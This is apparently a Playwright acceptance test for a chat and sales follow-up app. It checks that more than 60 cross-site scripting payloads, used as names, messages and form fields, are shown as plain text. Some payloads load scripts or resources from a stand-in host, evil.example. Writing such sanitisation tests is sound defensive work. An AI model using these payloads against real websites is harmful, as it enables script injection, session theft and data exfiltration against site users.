// Acceptance: whatever people write or are called, the page shows it as text. Real server, real Chromium.
import { setTimeout as sleep } from 'node:timers/promises';
import { pino } from 'pino';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Served, serveOnNode } from '../../adapters/runtime/node.ts';
import { cleanUp, look, recordedIn, temporary, visit, workspaceFile } from '../support/app.ts';
import { activeContent, closePages, openAs } from './watched.ts';

const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<script type=module>import("http://evil.example/x.js")</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="http://evil.example/pixel.png">',
  '<img/src=`x`onerror=alert(1)>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<image src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '![x](http://evil.example/x.png)',
  'javascript:alert(1)',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(alert(1))//',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<form action="http://evil.example"><button autofocus>x',
  '<button popovertarget=x onbeforetoggle=alert(1)>x',
  '<dialog open onclose=alert(1)>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<style>*{background:url(http://evil.example/x)}</style>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<link rel=prefetch href=http://evil.example/>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<base href="http://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="http://evil.example/x"?>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)} <%= alert(1) %>',
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
];
const TEAM = 'channel:team';
const started = Date.now();
let app: Served;
const data = temporary();
const userOf = (index: number): string => `evil-${String(index).padStart(4, '0')}`;

beforeAll(async () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(50);
  // The time runs from a Wednesday morning, so that nothing falls due meanwhile.
  const real = () => Date.parse('2026-03-11T10:00:00+08:00') + Date.now() - started;
  app = await serveOnNode({ data, demo: false, log: pino({ level: 'silent' }), port: 0, real });
  await visit(app.url, 'the-admin').ask({ kind: 'opened', name: 'Ann Admin', locale: 'en' });
  for (const [index, payload] of PAYLOADS.entries()) {
    const person = visit(app.url, userOf(index));
    await person.ask({ kind: 'opened', name: payload, locale: index % 2 === 0 ? 'en' : 'zh' });
    // As an author and as talk, to everybody.
    await person.say(`say ${payload}`, TEAM);
    const { form } = await person.say('/followup');
    const day = '2026-03-12';
    const values = {
      // Names that differ in signs only are one customer, and belong to whoever came first.
      customer: `${payload} K${index}`,
      contact: payload,
      text: payload,
      note: payload,
      channel: 'phone',
      outcome: 'connected',
      grade: 'A',
      nextAction: 'call',
      nextDay: day,
    };
    const known = new Set(form?.inputs.map(({ name }) => name));
    const answer = await person.ask({
      kind: 'submit',
      form: form?.id ?? '',
      values: Object.fromEntries(Object.entries(values).filter(([name]) => known.has(name))),
    });
    const id = recordedIn(answer);
    expect([payload, id === null, id === null && answer]).toEqual([payload, false, false]);
    await person.say(`/followup ${payload} 打了电话，备注 ${payload}`);
    if (index % 15 === 0) {
      const message = answer.messages.at(-1)?.id ?? 0;
      const action = `["followup","share",{"id":${id}}]`;
      await person.ask({ kind: 'press', message, action });
    }
  }
  const admin = visit(app.url, 'the-admin');
  await admin.say('/leaderboard post');
  for (let turns = 0; ; turns += 1) {
    const waiting = look(workspaceFile(data), (client) =>
      client.prepare("SELECT 1 FROM outbox WHERE state IN ('due', 'sending')").get(),
    );
    if (waiting === undefined) break;
    if (turns > 300) throw new Error('the outbox does not empty');
    await sleep(100);
  }
}, 180_000);
afterAll(async () => {
  await closePages();
  await app.close();
  await cleanUp();
});

const say = async (page: Page, line: string): Promise<void> => {
  const messages = page.locator('article.card');
  const before = await messages.count();
  await page.fill('#line', line);
  await page.press('#line', 'Enter');
  await page.waitForFunction(
    (count) => document.querySelectorAll('article.card').length > count,
    before,
  );
};

/** Scrolls up until the start of the thread is there. */
const readAll = async (page: Page, last: string): Promise<void> => {
  for (let turns = 0; turns < 40; turns += 1) {
    const there = await page.evaluate((text) => document.body.textContent.includes(text), last);
    if (there) return;
    await page.evaluate(() => {
      for (const element of document.querySelectorAll('*')) {
        if (element.scrollTop > 0) element.scrollTop = 0;
      }
    });
    await page.waitForTimeout(100);
  }
  throw new Error(`the thread does not show ${last}`);
};

it(`shows ${PAYLOADS.length} hostile texts as text, to the team`, async () => {
  const { page, wrong } = await openAs(app.url, 'the-admin');
  await page
    .getByRole('button', { name: 'Sales team' })
    .first()
    .waitFor()
    .catch(() => {});
  const quiet = await activeContent(page);
  expect(quiet.filter((name) => /img|iframe|object|on|javascript/.test(name))).toEqual([]);
  const [channel] = await visit(app.url, 'the-admin')
    .state()
    .then(({ places }) => places.filter(({ id }) => id === TEAM));
  await page
    .locator('nav')
    .getByText(channel?.name ?? '', { exact: true })
    .click();
  await page
    .getByText(`say ${PAYLOADS.at(-1)}`)
    .first()
    .waitFor();
  await readAll(page, `say ${PAYLOADS[0]}`);
  const shown = await page.evaluate(() => document.body.textContent);
  for (const payload of PAYLOADS) {
    expect([payload, shown.includes(`say ${payload}`)]).toEqual([payload, true]);
  }
  // Names of people: as authors, on the posted board, in the list to switch to.
  expect(shown).toContain('<img src=x onerror=alert(1)>');
  await page.locator('button.person').first().click();
  const people = page.locator('.panel.people li').filter({ hasText: String(PAYLOADS[10]) });
  await people.first().waitFor();
  await page.keyboard.press('Escape');
  await page.fill('#line', '@<');
  await page.fill('#line', '');
  expect(await activeContent(page)).toEqual(quiet);
  expect(wrong).toEqual([]);
}, 120_000);

it('shows them as text on one’s own cards, and in forms', async () => {
  for (const index of [0, 10, 16, 23, 28, 48]) {
    const payload = PAYLOADS[index] ?? '';
    const { page, wrong } = await openAs(app.url, userOf(index));
    const quiet = await activeContent(page);
    await page.locator('nav button.place').last().click();
    await page.locator('article.card').first().waitFor();
    for (const line of [
      '/customer',
      `/customer ${payload}`,
      '/followup due',
      '/leaderboard',
      '/score why',
      `/${payload}`,
    ]) {
      await say(page, line);
    }
    // The correction form holds customer, contact and note as they were written.
    const fix = page.locator('article.card button', { hasText: /^(Fix|修改)$/ }).last();
    await fix.click();
    const dialog = page.locator('dialog[open]');
    await dialog.waitFor();
    const values = await dialog
      .locator('input, textarea')
      .evaluateAll((inputs) => inputs.map((input) => (input as HTMLInputElement).value));
    expect(values.some((value) => value.includes(payload))).toBe(true);
    await page.keyboard.press('Escape');
    const shown = await page.evaluate(() => document.body.textContent);
    expect([payload, shown.includes(payload)]).toEqual([payload, true]);
    expect(await activeContent(page)).toEqual(quiet);
    expect(wrong).toEqual([]);
    await page.close();
  }
}, 180_000);
